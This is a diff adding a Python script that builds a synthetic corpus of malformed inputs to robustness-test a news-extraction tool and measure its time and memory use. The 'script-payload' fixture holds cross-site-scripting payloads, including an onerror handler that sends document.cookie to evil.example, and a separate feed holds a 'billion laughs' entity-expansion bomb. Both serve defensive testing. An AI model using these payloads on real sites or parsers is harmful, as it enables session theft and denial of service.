@@ -1,0 +1,540 @@
+"""Generate sitrep's bad-input corpus, and optionally measure ``sitrep extract`` on it.
+
+Every kind of input in :data:`KINDS` is written by a small function from synthetic text
+(nothing is copied from real articles), so the corpus is rebuilt, never committed::
+
+    python scripts/make_bad_corpus.py OUT                   # the corpus for the unit tests
+    python scripts/make_bad_corpus.py OUT --huge            # plus the 500 MB page
+    python scripts/make_bad_corpus.py OUT --measure R.json  # and measure every input
+
+Each :class:`Kind` states, written by hand from what the input is, what ``sitrep extract``
+may answer (exit 0 with a valid result, or one of the error exit codes of
+``sitrep.errors``) and what ``sitrep run`` must record for it (documents stored, inputs
+failed, and the failure stage). Big pages are streamed to disk in chunks.
+
+``--measure`` loads the pipeline once, then runs the ``extract`` command on each input in
+a forked child process (so the model is not reloaded) and reads the child's wall time, CPU
+time and peak resident memory from ``os.wait4``: the memory of a ``sitrep extract`` process
+handling that document, model included.
+"""
+
+from __future__ import annotations
+
+import argparse
+import gzip
+import io
+import json
+import logging
+import os
+import random
+import signal
+import sys
+import time
+import traceback
+from dataclasses import asdict, dataclass
+from pathlib import Path
+from typing import Callable, Optional
+
+__all__ = ["Kind", "KINDS", "ARTICLE", "build", "measure", "Measurement", "main"]
+
+log = logging.getLogger(__name__)
+
+MB = 1_000_000
+
+#: The synthetic report most good kinds are made of (place and names invented or generic).
+HEADLINE = "Militants attack army checkpoint near Kunduz"
+PARAGRAPHS = (
+    "Taliban fighters attacked an army checkpoint on the outskirts of Kunduz late on Friday, killing at least "
+    "four soldiers and wounding seven others, the provincial governor's spokesman said on Saturday.",
+    '"The attackers came from the east and fought for two hours before they withdrew," the spokesman told '
+    "reporters. Residents said several houses near the checkpoint were damaged.",
+    "A Taliban spokesman said on social media that 12 soldiers had been killed, a figure officials denied.",
+)
+ARTICLE = HEADLINE + "\n\n" + "\n\n".join(PARAGRAPHS) + "\n"
+#: A sentence every good kind built from :data:`ARTICLE` keeps in its clean text.
+KEPT = "killing at least four soldiers"
+
+
+@dataclass(frozen=True)
+class Kind:
+    """One kind of bad input and what sitrep must do with it.
+
+    ``exits``: the exit codes ``sitrep extract`` may give (0 = a valid result);
+    ``stored``/``failed``: documents stored and inputs recorded as failed by ``sitrep run``;
+    ``stage``: the failure stage ``run`` records (when ``failed``); ``keep``/``drop``:
+    strings the clean text must / must not contain when a result comes out.
+    """
+
+    name: str
+    about: str
+    write: Callable[[Path], None]
+    exits: tuple[int, ...]
+    stored: int = 0
+    failed: int = 0
+    stage: Optional[str] = None
+    published: Optional[str] = "2024-05-11"
+    keep: tuple[str, ...] = ()
+    drop: tuple[str, ...] = ()
+    huge: bool = False
+
+
+# -- writers -----------------------------------------------------------------------------------
+def _bytes(data: bytes) -> Callable[[Path], None]:
+    return lambda path: path.write_bytes(data)
+
+
+def _text(text: str, encoding: str = "utf-8") -> Callable[[Path], None]:
+    return lambda path: path.write_bytes(text.encode(encoding))
+
+
+def _html(body: str, head: str = "<title>Militants attack army checkpoint near Kunduz</title>") -> str:
+    return f"<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\">{head}</head><body>{body}</body></html>\n"
+
+
+def _article_html() -> str:
+    paragraphs = "".join(f"<p>{p}</p>" for p in PARAGRAPHS)
+    return f"<article><h1>{HEADLINE}</h1>{paragraphs}</article>"
+
+
+def _streamed_page(size: int) -> Callable[[Path], None]:
+    """An HTML page of ``size`` bytes or a little more, written in 1 MB chunks."""
+
+    def write(path: Path) -> None:
+        chunk = "".join(f"<p>{p}</p>\n" for p in PARAGRAPHS).encode()
+        block = chunk * (MB // len(chunk) + 1)
+        with path.open("wb") as fh:
+            fh.write(b'<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>Checkpoint</title></head><body>\n')
+            written = 0
+            while written < size:
+                written += fh.write(block)
+            fh.write(b"</body></html>\n")
+
+    return write
+
+
+def _pdf() -> bytes:
+    body = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\nstream\n" + bytes(range(256)) * 8 + b"\nendstream\n"
+    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + body + b"%%EOF\n"
+
+
+def _png() -> bytes:
+    return b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00" + random.Random(3).randbytes(4000)
+
+
+def _deep_nesting(levels: int) -> str:
+    inner = "".join(f"<p>{p}</p>" for p in PARAGRAPHS)
+    return _html("<div>" * levels + inner + "</div>" * levels)
+
+
+def _unclosed() -> str:
+    # <p>, <div>, <b> and <a> never closed, a stray </table>, an attribute with no closing quote
+    return (
+        "<html><head><title>Militants attack army checkpoint near Kunduz<body><div class=\"story>"
+        f"<p>{PARAGRAPHS[0]}<div><p><b>{PARAGRAPHS[1]}</table><p><a href=\"/x\">{PARAGRAPHS[2]}"
+    )
+
+
+def _latin1_in_utf8_page() -> bytes:
+    # declared UTF-8, but the accented letters are single Latin-1 bytes
+    body = f"<p>{PARAGRAPHS[0]}</p><p>A caf\xe9 owner in the old bazaar said the fighting lasted hours.</p>"
+    return _html(body).encode("latin-1")
+
+
+def _mixed_encodings() -> bytes:
+    first = (HEADLINE + "\n\n" + PARAGRAPHS[0] + "\n\n").encode("utf-8")
+    utf8 = "The café owner said the naïve recruits had fled.\n\n".encode("utf-8")
+    cp1252 = "A second café owner said: \u201cthey left at dawn\u201d.\n\n".encode("cp1252")
+    return first + utf8 + cp1252 + PARAGRAPHS[2].encode("utf-8")
+
+
+def _sprinkled(text: str, chars: str, every: int) -> str:
+    """``text`` with one of ``chars`` after every ``every``-th space."""
+    words = text.split(" ")
+    return " ".join(w + (chars[i % len(chars)] if i % every == every - 1 else "") for i, w in enumerate(words))
+
+
+def _long_line(chars: int) -> str:
+    sentence = "Residents said the fighting near the checkpoint lasted hours and several houses were damaged. "
+    return HEADLINE + "\n\n" + PARAGRAPHS[0] + " " + sentence * (chars // len(sentence) + 1) + "\n"
+
+
+def _big_text(size: int) -> Callable[[Path], None]:
+    def write(path: Path) -> None:
+        para = ("\n\n".join(PARAGRAPHS) + "\n\n").encode()
+        with path.open("wb") as fh:
+            fh.write((HEADLINE + "\n\n").encode())
+            for _ in range(size // len(para) + 1):
+                fh.write(para)
+
+    return write
+
+
+def _only_table() -> str:
+    rows = "".join(
+        f"<tr><td>{place}</td><td>{day}</td><td>{killed}</td></tr>"
+        for place, day, killed in (("Kunduz", "Friday", 4), ("Baghlan", "Saturday", 2), ("Takhar", "Sunday", 0))
+    )
+    return _html(f"<table><tr><th>Province</th><th>Day</th><th>Soldiers killed</th></tr>{rows}</table>")
+
+
+ONLY_QUOTES = (
+    '"We attacked the checkpoint because it blocked the road to the market," a Taliban commander said.\n\n'
+    '"Four of our soldiers were killed and seven were wounded," the governor\'s spokesman said.\n\n'
+    '"We heard gunfire for two hours," one resident said. "Then it was quiet."\n'
+)
+ONLY_NUMBERS = "12 4 7 2024\n\n1,200 3.5 -17 0 99\n\n2024-05-10 10:30 +93 70 123 4567\n"
+FUTURE = (
+    "Army plans exercise near Kunduz\n\nThe defence ministry said on Friday that a joint exercise near Kunduz "
+    "would take place on 3 March 2091 and again in 2150. It said that no soldiers had been killed in the "
+    "planning, and that 40 soldiers were wounded in a clash near Kunduz on Thursday.\n"
+)
+OLD = (
+    "Fighting near Kandahar\n\nTribal fighters attacked a garrison near Kandahar on Tuesday, killing 14 "
+    "soldiers, the garrison commander said in a telegram on 4 January 1900.\n"
+)
+ABSURD = (
+    "Claims of massive losses near Kunduz\n\nA Taliban statement claimed that 10,000,000,000 soldiers were "
+    "killed near Kunduz on Friday. A second post said 99999999999999999999999 people were wounded and "
+    "1,000,000,000,000 captured. Officials said four soldiers were killed.\n"
+)
+NUMBERS = (
+    "Toll rises after clashes near Kunduz\n\n"
+    "Officials said 1,200 people were displaced, 1.200 by another count, 1 200 by a third and 1'200 by a fourth. "
+    "At least 12,00,000 people have fled the province since 2021, the agency said.\n\n"
+    "Between 10 and 15 soldiers were killed, the army said; the Taliban said 10-15, a resident 10\u201315, "
+    "a doctor 10 to 15 and a nurse ten to fifteen. Two or three civilians were wounded, and 20\u201325 "
+    "others were missing. Some 30 fighters, nearly 40 police and more than 50 militants were captured, "
+    "while dozens of others were arrested and up to 60 were abducted.\n"
+)
+PAYLOAD = _html(
+    "<script>document.write('<p>INJECTED SCRIPT TEXT</p>'); alert('xss')</script>"
+    "<style>p::after { content: 'INJECTED STYLE TEXT' }</style>"
+    '<article><h1 onclick="alert(1)">Militants attack army checkpoint near Kunduz</h1>'
+    f'<p onmouseover="alert(document.cookie)">{PARAGRAPHS[0]}</p>'
+    f'<img src="x" onerror="fetch(\'https://evil.example/?c=\'+document.cookie)"><p>{PARAGRAPHS[1]}</p>'
+    f'<a href="javascript:alert(2)">Read more</a><svg onload="alert(3)"><p>{PARAGRAPHS[2]}</p></svg>'
+    "<iframe src=\"javascript:alert(4)\">INJECTED IFRAME TEXT</iframe></article>"
+)
+MIXED_SCRIPTS = (
+    "Militants attack army checkpoint near Kunduz\n\n"
+    + PARAGRAPHS[0]
+    + "\n\nThe spokesman, Zabihullah (\u0630\u0628\u06cc\u062d \u0627\u0644\u0644\u0647), wrote on X: "
+    "\u201c\u0645\u0648\u0698 \u062d\u0645\u0644\u0647 \u06a9\u0693\u06cc\u200f\u201d. A Russian observer, "
+    "\u0418\u0432\u0430\u043d \u041f\u0435\u0442\u0440\u043e\u0432, said the attack was expected. "
+    "Greek aid workers (\u0395\u03bb\u03bb\u03b7\u03bd\u03b5\u03c2) and a Chinese team (\u4e2d\u56fd\u961f) "
+    "left the city on Saturday.\n"
+)
+BIDI = (
+    "Militants attack army checkpoint near Kunduz\n\n"
+    "Taliban\u202e fighters\u202c attacked an army checkpoint near \u2067Kunduz\u2069 late on Friday, killing at "
+    "least four\u200d soldiers, the governor's\u200f spokesman said.\u200e Residents\u2060 said several houses "
+    "were damaged.\n"
+)
+ARABIC = (
+    "\u0647\u062c\u0648\u0645 \u0639\u0644\u0649 \u062d\u0627\u062c\u0632 \u0644\u0644\u062c\u064a\u0634\n\n"
+    "\u0647\u0627\u062c\u0645 \u0645\u0633\u0644\u062d\u0648\u0646 \u062d\u0627\u062c\u0632\u0627 "
+    "\u0644\u0644\u062c\u064a\u0634 \u0642\u0631\u0628 \u0627\u0644\u0645\u062f\u064a\u0646\u0629 "
+    "\u0645\u0633\u0627\u0621 \u0627\u0644\u062c\u0645\u0639\u0629\u060c \u0645\u0645\u0627 \u0623\u0633\u0641\u0631 "
+    "\u0639\u0646 \u0645\u0642\u062a\u0644 \u0623\u0631\u0628\u0639\u0629 \u062c\u0646\u0648\u062f\u060c "
+    "\u062d\u0633\u0628\u0645\u0627 \u0642\u0627\u0644 \u0645\u062a\u062d\u062f\u062b \u0628\u0627\u0633\u0645 "
+    "\u0627\u0644\u062d\u0627\u0643\u0645.\n"
+)
+FRENCH = (
+    "Attaque contre un poste de l'armée\n\nDes combattants ont attaqué vendredi soir un poste de contrôle de "
+    "l'armée près de la ville, tuant au moins quatre soldats, a déclaré le porte-parole du gouverneur. Selon "
+    "les habitants, les combats ont duré deux heures et plusieurs maisons ont été endommagées.\n"
+)
+RUSSIAN = (
+    "Нападение на армейский пост\n\nБоевики в пятницу вечером напали на армейский блокпост на окраине "
+    "города, убив по меньшей мере четырёх военнослужащих, сообщил представитель губернатора. По словам "
+    "жителей, бой продолжался два часа.\n"
+)
+CHINESE = _html(
+    "<h1>武装分子袭击军队检查站</h1><p>武装分子周五晚间袭击了城市郊区的一个军队检查站，造成至少四名士兵死亡，"
+    "七人受伤。省长发言人周六表示，袭击者从东面而来，交火持续了两个小时。</p>"
+)
+EMOJI = (
+    "Militants attack army checkpoint near Kunduz \U0001f6a8\n\n"
+    "\U0001f534 BREAKING: " + PARAGRAPHS[0] + " \U0001f622\U0001f1e6\U0001f1eb\n\n"
+    "\U0001d413\U0001d41a\U0001d425\U0001d422\U0001d41b\U0001d41a\U0001d427 fighters \U0001f4a5 said on "
+    "social media that 12 soldiers had been killed.\n"
+)
+BAD_ENTITIES = _html(
+    f"<p>{PARAGRAPHS[0]} &#0; &#xD800; &#1114112; &#x110000; &bogus; &amp &#65;&#x42;</p>"
+    f"<p>{PARAGRAPHS[1]}&#x1F4A5;&#55357;&#56613;</p>"
+)
+MARKDOWN = (
+    "# Militants attack army checkpoint near Kunduz\n\n"
+    + "".join("  " * i + "- level\n" for i in range(200))
+    + "\n"
+    + PARAGRAPHS[0]
+    + "\n\n[" + "a" * 5000 + "](" + "https://example.org/" + "b" * 5000 + ")\n\n"
+    + "|col|" * 500 + "\n\n**" + PARAGRAPHS[2] + "**\n"
+)
+
+
+def _huge_attribute() -> str:
+    image = "data:image/png;base64," + "iVBORw0KGgo" * 400_000  # ~4.4 MB of one attribute
+    return _html(f'<img src="{image}" alt="map">' + _article_html())
+
+
+def _utf16(codec: str) -> Callable[[Path], None]:
+    return lambda path: path.write_bytes(ARTICLE.encode(codec))
+
+
+def _koi8() -> bytes:
+    return RUSSIAN.encode("koi8_r")
+
+
+def _warc_bytes(truncate: bool) -> bytes:
+    """Three HTML responses and one image; with ``truncate``, the last record is cut short."""
+    from warcio.statusandheaders import StatusAndHeaders
+    from warcio.warcwriter import WARCWriter
+
+    buf = io.BytesIO()
+    writer = WARCWriter(buf, gzip=True)
+    pages = [
+        ("https://news.example/kunduz", "text/html", _html(_article_html()).encode()),
+        ("https://news.example/map.png", "image/png", _png()),
+        ("https://news.example/baghlan", "text/html", _html(_article_html().replace("Kunduz", "Baghlan")).encode()),
+        ("https://news.example/takhar", "text/html", _html(_article_html().replace("Kunduz", "Takhar")).encode()),
+    ]
+    for url, ctype, body in pages:
+        headers = StatusAndHeaders("200 OK", [("Content-Type", ctype)], protocol="HTTP/1.1")
+        writer.write_record(writer.create_warc_record(url, "response", payload=io.BytesIO(body), http_headers=headers))
+    data = buf.getvalue()
+    return data[:-300] if truncate else data
+
+
+def _feed(items: str, *, broken: str = "") -> str:
+    return (
+        '<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0"><channel><title>Frontier Wire</title>'
+        f"<link>https://wire.example/</link>{broken}{items}</channel></rss>\n"
+    )
+
+
+def _feed_item(guid: str, place: str, extra: str = "") -> str:
+    body = "".join(f"<p>{p.replace('Kunduz', place)}</p>" for p in PARAGRAPHS)
+    return (
+        f"<item><guid>{guid}</guid><title>Militants attack army checkpoint near {place}</title>"
+        f"<link>https://wire.example/{guid}</link><pubDate>Sat, 11 May 2024 09:00:00 GMT</pubDate>"
+        f"<description><![CDATA[{body}]]></description>{extra}</item>"
+    )
+
+
+# undefined entity, a raw "&", and a mismatched end tag: not well-formed XML, still readable
+INVALID_FEED = _feed(
+    _feed_item("a1", "Kunduz", "<category>News & Analysis &nbsp;</category>")
+    + _feed_item("a2", "Baghlan", "<author>desk@wire.example</wrong>")
+)
+GARBAGE_FEED = "<<<rss>>> <channel <item> &&& </rss\x01\n" + "}{" * 200
+BILLION_LAUGHS = (
+    '<?xml version="1.0"?>\n<!DOCTYPE rss [\n<!ENTITY lol "lol">\n'
+    + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">\n' for i in range(1, 10))
+    + "]>\n"
+    + _feed(_feed_item("b1", "Kunduz").replace("<title>", "<title>&lol9;"))
+)
+JSONL = "\n".join(
+    (
+        json.dumps({"url": "https://wire.example/j1", "text": ARTICLE, "published": "2024-05-11"}),
+        '{"url": "https://wire.example/j2", "text": "unterminated',
+        json.dumps({"url": "https://wire.example/j3", "body": ARTICLE}),
+        json.dumps({"url": "https://wire.example/j4", "html": _html(""), "published": "2024-05-11"}),
+        json.dumps(["not", "an", "object"]),
+    )
+) + "\n"
+
+
+def _gzip_no_extension(path: Path) -> None:
+    path.write_bytes(gzip.compress(_html(_article_html()).encode(), mtime=0))
+
+
+# -- the kinds ---------------------------------------------------------------------------------
+_NOT_AN_ARTICLE = (0, 3, 10, 11, 13, 14, 15)  # a container given to `extract`: any clear answer
+
+KINDS: tuple[Kind, ...] = (
+    Kind("empty.txt", "a zero-byte file", _bytes(b""), (10,), failed=1, stage="ingest"),
+    Kind("whitespace.txt", "spaces, tabs and line breaks only", _bytes(b" \n\t\r\n   \n\n"), (10,), failed=1, stage="ingest"),
+    Kind("markup-only.html", "a page with tags but no text", _text(_html("<div><span></span></div><nav></nav>")), (10,), failed=1, stage="ingest"),
+    Kind("comments-only.html", "a page whose only text is in comments", _text(_html("<!-- Taliban fighters attacked a checkpoint -->")), (10,), failed=1, stage="ingest"),
+    Kind("report.pdf", "a PDF document", _bytes(_pdf()), (11,), failed=1, stage="ingest"),
+    Kind("pdf-named.html", "a PDF document named .html", _bytes(_pdf()), (11,), failed=1, stage="ingest"),
+    Kind("image-named.txt", "a PNG image named .txt", _bytes(_png()), (11,), failed=1, stage="ingest"),
+    Kind("gzipped-page", "a gzip-compressed page without an extension", _gzip_no_extension, (11,), failed=1, stage="ingest"),
+    Kind("random-bytes.txt", "4 KB of random bytes", _bytes(random.Random(7).randbytes(4096)), (11,), failed=1, stage="ingest"),
+    Kind("nul-only.txt", "4 KB of NUL bytes", _bytes(bytes(4096)), (11,), failed=1, stage="ingest"),
+    Kind("page-50mb.html", "a 50 MB page (over the 20 MB limit)", _streamed_page(50 * MB), (12,), failed=1, stage="ingest"),
+    Kind("page-500mb.html", "a 500 MB page", _streamed_page(500 * MB), (12,), failed=1, stage="ingest", huge=True),
+    Kind("page-19mb.html", "a 19 MB page, under the byte limit, over the text limit", _streamed_page(19 * MB), (12,), failed=1, stage="ingest"),
+    Kind("text-19mb.txt", "19 MB of plain text, over the text limit", _big_text(19 * MB), (12,), failed=1, stage="ingest"),
+    Kind("long-line-2mb.txt", "one 2 MB line", _text(_long_line(2 * MB)), (12,), failed=1, stage="ingest"),
+    Kind("long-line-60k.txt", "one 60,000-character line", _text(_long_line(60_000)), (0,), stored=1, keep=(KEPT,)),
+    Kind("deep-nesting.html", "10,000 levels of nested <div>", _text(_deep_nesting(10_000)), (0,), stored=1, keep=(KEPT,)),
+    Kind("unclosed-tags.html", "unclosed tags and an unterminated attribute", _text(_unclosed()), (0,), stored=1, keep=("at least four soldiers",)),
+    Kind("latin1-declared-utf8.html", "declared UTF-8, Latin-1 bytes", _bytes(_latin1_in_utf8_page()), (0,), stored=1, keep=(KEPT, "café owner")),
+    Kind("utf16le-no-bom.txt", "UTF-16-LE without a byte-order mark", _utf16("utf-16-le"), (0,), stored=1, keep=(KEPT,)),
+    Kind("utf16be-no-bom.txt", "UTF-16-BE without a byte-order mark", _utf16("utf-16-be"), (0,), stored=1, keep=(KEPT,)),
+    Kind("utf16-bom-broken.txt", "a UTF-16 BOM, then a lone surrogate", _bytes(b"\xff\xfe" + ARTICLE.encode("utf-16-le") + b"\x00\xd8A\x00"), (13,), failed=1, stage="ingest"),
+    Kind("mixed-encodings.txt", "UTF-8 and cp1252 paragraphs in one file", _bytes(_mixed_encodings()), (0,), stored=1, keep=(KEPT, "naïve recruits", "café owner said: \u201cthey left")),
+    Kind("koi8r-undeclared.txt", "Russian in KOI8-R, no charset declared", _bytes(_koi8()), (13, 15), failed=1, stage="ingest"),
+    Kind("nul-bytes.txt", "an article with NUL bytes between words", _text(_sprinkled(ARTICLE, "\x00", 6)), (0,), stored=1, keep=("Taliban fighters",), drop=("\x00",)),
+    Kind("control-chars.txt", "BEL, ESC, VT, FF, DEL and C1 controls", _text(_sprinkled(ARTICLE, "\x07\x1b\x0b\x0c\x7f\x85\x9b", 5)), (0,), stored=1, drop=("\x07", "\x1b", "\x7f", "\x9b")),
+    Kind("bidi-controls.txt", "right-to-left overrides and zero-width characters", _text(BIDI), (0,), stored=1, keep=("Taliban",)),
+    Kind("mixed-scripts.txt", "English with Arabic, Pashto, Cyrillic, Greek and Han names", _text(MIXED_SCRIPTS), (0,), stored=1, keep=(KEPT, "\u0418\u0432\u0430\u043d")),
+    Kind("arabic-rtl.txt", "an Arabic article", _text(ARABIC), (15,), failed=1, stage="language"),
+    Kind("french.txt", "a French article", _text(FRENCH), (15,), failed=1, stage="language"),
+    Kind("russian.txt", "a Russian article", _text(RUSSIAN), (15,), failed=1, stage="language"),
+    Kind("chinese.html", "a Chinese page", _text(CHINESE), (15,), failed=1, stage="language"),
+    Kind("emoji.txt", "emoji, flags and mathematical letters (astral plane)", _text(EMOJI), (0,), stored=1, keep=(KEPT,)),
+    Kind("only-table.html", "an article that is only a table", _text(_only_table()), (0, 10), stored=1),
+    Kind("only-quotes.txt", "an article that is only quotes", _text(ONLY_QUOTES), (0,), stored=1, keep=("We heard gunfire",)),
+    Kind("only-numbers.txt", "an article that is only numbers", _text(ONLY_NUMBERS), (10, 15), failed=1, stage="language"),
+    Kind("future-dates.txt", "dates in 2091 and 2150", _text(FUTURE), (0,), stored=1, keep=("3 March 2091",)),
+    Kind("year-1900.txt", "a report published in 1900", _text(OLD), (0,), stored=1, published="1900-01-05", keep=("14 soldiers",)),
+    Kind("absurd-casualties.txt", "10,000,000,000 killed and a 23-digit figure", _text(ABSURD), (0,), stored=1, keep=("10,000,000,000",)),
+    Kind("number-styles.txt", "thousands separators and ranges in every style", _text(NUMBERS), (0,), stored=1, keep=("12,00,000",)),
+    Kind("script-payload.html", "<script>, event handlers and javascript: URLs", _text(PAYLOAD), (0,), stored=1, keep=(KEPT,),
+         drop=("INJECTED", "alert(", "onerror", "onmouseover", "javascript:", "<script", "document.cookie")),
+    Kind("bad-entities.html", "NUL, surrogate and out-of-range character references", _text(BAD_ENTITIES), (0,), stored=1, keep=(KEPT,)),
+    Kind("huge-attribute.html", "a 4 MB inline data: image", _text(_huge_attribute()), (0,), stored=1, keep=(KEPT,), drop=("iVBORw0KGgo",)),
+    Kind("nested-markdown.md", "200 nested list levels, a 10 KB link, a 500-cell table row", _text(MARKDOWN), (0,), stored=1, keep=(KEPT,)),
+    Kind("cr-line-ends.txt", "old Mac line ends (CR only)", _text(ARTICLE.replace("\n", "\r")), (0,), stored=1, keep=(KEPT,)),
+    Kind("truncated.warc.gz", "a WARC whose last record is cut short", _bytes(_warc_bytes(True)), _NOT_AN_ARTICLE, stored=2, failed=2, stage="ingest"),
+    Kind("not-a-warc.warc", "a text file named .warc", _text(ARTICLE), _NOT_AN_ARTICLE, failed=1, stage="ingest"),
+    Kind("invalid-xml.rss", "a feed that is not well-formed XML", _text(INVALID_FEED), _NOT_AN_ARTICLE, stored=2),
+    Kind("garbage-feed.xml", "a feed that is not XML at all", _text(GARBAGE_FEED), _NOT_AN_ARTICLE, failed=1, stage="ingest"),
+    Kind("billion-laughs.rss", "a feed with an entity-expansion bomb", _text(BILLION_LAUGHS), _NOT_AN_ARTICLE, failed=1, stage="ingest"),
+    Kind("broken-lines.jsonl", "JSON Lines: good, cut short, no text, empty page, not an object", _text(JSONL), _NOT_AN_ARTICLE, stored=1, failed=4, stage="ingest"),
+)
+
+
+def build(out: str | Path, *, huge: bool = False, only: Optional[set[str]] = None) -> list[Kind]:
+    """Write the corpus into ``out``; ``huge`` adds the 500 MB page. Returns the kinds written."""
+    folder = Path(out)
+    folder.mkdir(parents=True, exist_ok=True)
+    written = []
+    for kind in KINDS:
+        if (kind.huge and not huge) or (only is not None and kind.name not in only):
+            continue
+        kind.write(folder / kind.name)
+        written.append(kind)
+    log.info("wrote %d inputs to %s", len(written), folder)
+    return written
+
+
+# -- measuring `sitrep extract` ----------------------------------------------------------------
+@dataclass
+class Measurement:
+    """One ``sitrep extract`` of one input: exit code, output files, time and peak memory."""
+
+    name: str
+    exit: Optional[int]
+    seconds: float
+    cpu_seconds: float
+    max_rss_mb: float
+    timed_out: bool
+    stdout: str
+    stderr: str
+
+
+def _child(args: list[str], stdout: Path, stderr: Path) -> None:
+    """In the forked child: the CLI with its streams sent to files, then leave with its code."""
+    code = 1
+    with stdout.open("wb") as out, stderr.open("wb") as err:
+        os.dup2(out.fileno(), 1)
+        os.dup2(err.fileno(), 2)
+        sys.stdout = io.TextIOWrapper(os.fdopen(1, "wb", closefd=False), encoding="utf-8", line_buffering=True)
+        sys.stderr = io.TextIOWrapper(os.fdopen(2, "wb", closefd=False), encoding="utf-8", line_buffering=True)
+        from sitrep.cli import app
+
+        try:
+            app(args=args, prog_name="sitrep")
+            code = 0
+        except SystemExit as exit_:
+            code = exit_.code if isinstance(exit_.code, int) else 1
+        except BaseException:  # an unhandled error is exactly what the corpus hunts for: show it
+            traceback.print_exc()
+        sys.stdout.flush()
+        sys.stderr.flush()
+    os._exit(code)
+
+
+def _wait(pid: int, timeout: float) -> tuple[Optional[int], object, bool]:
+    """``(exit code, rusage, timed out)`` of child ``pid``, killed after ``timeout`` seconds."""
+    deadline = time.monotonic() + timeout
+    while True:
+        done, status, usage = os.wait4(pid, os.WNOHANG)
+        if done:
+            return (os.waitstatus_to_exitcode(status), usage, False)
+        if time.monotonic() > deadline:
+            os.kill(pid, signal.SIGKILL)
+            _, status, usage = os.wait4(pid, 0)
+            return (None, usage, True)
+        time.sleep(0.02)
+
+
+def measure_one(path: Path, *, published: Optional[str], logs: Path, timeout: float) -> Measurement:
+    """Run ``sitrep extract PATH`` in a forked child of this (pre-loaded) process."""
+    args = ["extract", str(path)] + (["--published", published] if published else [])
+    stdout, stderr = logs / f"{path.name}.out", logs / f"{path.name}.err"
+    sys.stdout.flush()
+    sys.stderr.flush()
+    started = time.perf_counter()
+    pid = os.fork()
+    if pid == 0:
+        _child(args, stdout, stderr)
+    code, usage, timed_out = _wait(pid, timeout)
+    return Measurement(
+        name=path.name,
+        exit=code,
+        seconds=round(time.perf_counter() - started, 3),
+        cpu_seconds=round(usage.ru_utime + usage.ru_stime, 3),
+        max_rss_mb=round(usage.ru_maxrss / 1024, 1),  # Linux reports KiB
+        timed_out=timed_out,
+        stdout=str(stdout),
+        stderr=str(stderr),
+    )
+
+
+def _preload() -> float:
+    """Load the pipeline in this process (children inherit it); returns the seconds it took."""
+    started = time.perf_counter()
+    from sitrep.nlp import load_pipeline
+    from sitrep.options import load_options
+
+    import sitrep.cli  # noqa: F401  (imported before forking, like the model)
+    import sitrep.pipeline  # noqa: F401
+
+    load_pipeline(load_options().nlp.model)
+    return time.perf_counter() - started
+
+
+def measure(folder: str | Path, kinds: list[Kind], *, timeout: float = 60.0) -> dict:
+    """Measure ``sitrep extract`` on every input of ``kinds`` under ``folder``."""
+    folder = Path(folder)
+    logs = folder.parent / (folder.name + "-logs")
+    logs.mkdir(exist_ok=True)
+    load = _preload()
+    rows = [measure_one(folder / k.name, published=k.published, logs=logs, timeout=timeout) for k in kinds]
+    return {"model_load_seconds": round(load, 2), "timeout_seconds": timeout, "inputs": [asdict(r) for r in rows]}
+
+
+def main(argv: Optional[list[str]] = None) -> int:
+    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
+    parser.add_argument("out", type=Path, help="folder to write the corpus into")
+    parser.add_argument("--huge", action="store_true", help="also write the 500 MB page")
+    parser.add_argument("--only", nargs="+", help="write only these kinds (file names)")
+    parser.add_argument("--measure", type=Path, help="run `sitrep extract` on each input; write the numbers here")
+    parser.add_argument("--timeout", type=float, default=60.0, help="seconds before a child is killed")
+    args = parser.parse_args(argv)
+    kinds = build(args.out, huge=args.huge, only=set(args.only) if args.only else None)
+    print(f"{len(kinds)} inputs in {args.out}", file=sys.stderr)
+    if args.measure:
+        result = measure(args.out, kinds, timeout=args.timeout)
+        args.measure.write_text(json.dumps(result, indent=1) + "\n", encoding="utf-8")
+        print(f"measured {len(kinds)} inputs → {args.measure}", file=sys.stderr)
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
